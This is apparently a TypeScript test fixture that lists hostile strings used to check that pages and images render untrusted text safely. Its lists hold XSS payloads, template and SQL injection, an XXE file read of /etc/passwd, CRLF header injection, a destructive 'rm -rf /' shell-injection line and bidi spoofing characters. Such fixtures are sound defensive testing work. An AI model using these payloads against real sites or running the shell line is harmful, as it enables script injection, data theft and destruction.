/** Texts of strangers that fit a title. */
export const HOSTILE_TITLES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'onmouseover='alert(1)",
  '</title><svg onload=alert(1)>',
  '<!-- --><iframe src=//evil.example>',
  'javascript:alert(1)',
  '&lt;b&gt; &amp; &#60;i&#62;',
  '{{7*7}} `backtick` <%= x %>',
  '\u202Eright to left\u202C',
  'W'.repeat(239),
]

const MARKUP = [
  '<b>bold</b>',
  '<a href="javascript:alert(1)">here</a>',
  '<a href=" &#14; javascript:alert(1)">here</a>',
  '<img/src=`x`onerror=alert(1)>',
  '<svg/onload=alert(1)//',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<form action=//evil.example><button>Sign in',
  '<textarea><title>',
  '<noscript><p title="</noscript><img src onerror=alert(1)>">',
  '<template shadowrootmode=open><slot>',
  '<plaintext>',
  '<xmp><listing>',
  '<select><option><table><tr><td>',
  '<frameset><frame src=//evil.example>',
  '<\u0000script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\uFF1Cscript\uFF1Ealert(1)',
  '<ſcript>alert(1)</ſcript>',
  '< script >alert(1)</ script >',
  '<%00script>',
  '<?php echo 1 ?><?xml version="1.0"?>',
  '<!DOCTYPE html><html><head>',
]
const CLOSERS = [
  '</td></tr></table></main></body></html>after',
  '</style><script>alert(1)</script>',
  '</script><b>',
  '</textarea></title></style></noscript>',
  '</pre></code></h1></ul></a>',
  '-->',
  '--!>',
  '<!--><script>',
  '<![CDATA[<b>]]>',
  ']]><b>',
  '</text></svg><b>',
  '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,x#y"/>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<xsl:value-of select="/"/>',
  '<foreignObject><iframe srcdoc="&lt;script&gt;">',
]
const ATTRIBUTES = [
  '"',
  "'",
  '`',
  '" autofocus onfocus="alert(1)',
  "' style='position:fixed;inset:0",
  '"/><b>',
  '" accesskey="x" onclick="alert(1)" x="',
  'x onerror=alert(1)',
  '&quot; onload=&quot;alert(1)',
  '&#34;&#x22;&#39;&apos;',
  '"\n>\n<b>\n',
  '=',
  '\\" \\\' \\u003cb\\u003e',
]
const ENTITY = ['&', '&&', '&amp;lt;', '&#0;', '&#x110000;', '&notit;', '&LT;b&GT;', '&lt', '&Tab;&NewLine;&colon;']
const ADDRESSES = [
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e/',
  'https://user:pass@evil.example/?a=b&c="d"#<e>',
]
const OTHER_LANGUAGES = [
  `$${'{7*7}'} #{7*7} {{constructor.constructor("alert(1)")()}}`,
  '{% include "/etc/passwd" %} <#assign x=1>',
  '$(id) `id` ; rm -rf / | cat',
  "'; drop table session; --",
  '{"__proto__":{"x":1}}',
  'undefined null NaN [object Object]',
  '} body { display: none } /*',
  '\\3c script\\3e expression(alert(1)) url(//evil.example)',
  '%3Cscript%3E %00 %0d%0aSet-Cookie: a=b',
  'a\r\nSet-Cookie: a=b\r\n\r\n<b>',
]
const DIRECTIONS = [
  '\u202Dleft to right without an end',
  '\u202Egnp.eman\u202C',
  '\u2067isolate without an end',
  '\u2066\u2067\u2068three of them',
  '\u2069\u2069ends without a beginning\u2069',
  '\u2069\u202Eout of its frame',
  'שלום עולם 1234 USDC',
  'مرحبا (بالعالم) <b>',
  '\u200Fmark\u200E\u061C',
  'first\u2028second\u2029third\u202E',
]
const CHARACTERS = [
  '\u0000\u0001\u0002\u0008\u000B\u000C\u000E\u001F\u007F',
  '\u0085\u009F\uFFFE\uFFFF\u{1FFFF}',
  'lone \uD83D half and \uDE00 half',
  'zero\u200Bwidth\u200Cjoin\u200Der\u2060\uFEFF',
  `Z${'\u0300\u0316\u0334'.repeat(60)}algo`,
  '👩‍👩‍👧‍👦🏳️‍🌈🇺🇳👍🏿#️⃣',
  `${'\u{E0041}'.repeat(20)}\u{E007F}tags`,
  '   \u00A0\u3000\u2003  ',
]
const LONG_WORDS = ['W'.repeat(10_000), '漢'.repeat(10_000), '👩‍👩‍👧'.repeat(2_000), `${'a\u0301'.repeat(5_000)}<b>`]

/** Texts of strangers that must stay texts in every page and picture. */
export const HOSTILE: readonly string[] = [
  ...HOSTILE_TITLES,
  ...[MARKUP, CLOSERS, ATTRIBUTES, ENTITY, ADDRESSES, OTHER_LANGUAGES, DIRECTIONS, CHARACTERS, LONG_WORDS].flat(),
]

/** Names of the tags of a page or picture, in their order. */
export const tagsOf = (text: string): string[] => [...text.matchAll(/<\/?[a-z][^\s>]*/gi)].map(([tag]) => tag)
